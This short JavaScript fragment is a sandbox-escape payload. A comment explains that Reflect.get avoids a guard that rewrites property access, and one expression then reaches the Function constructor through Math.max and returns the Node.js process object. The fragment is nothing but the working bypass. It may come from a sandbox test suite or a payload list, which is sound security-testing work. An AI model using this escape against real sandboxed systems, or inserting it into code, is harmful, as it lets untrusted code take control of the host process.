// Reflect.get takes its key as an argument: there is no property access for the guard to rewrite.
Reflect.get(Math.max, "constructor")("return process")()
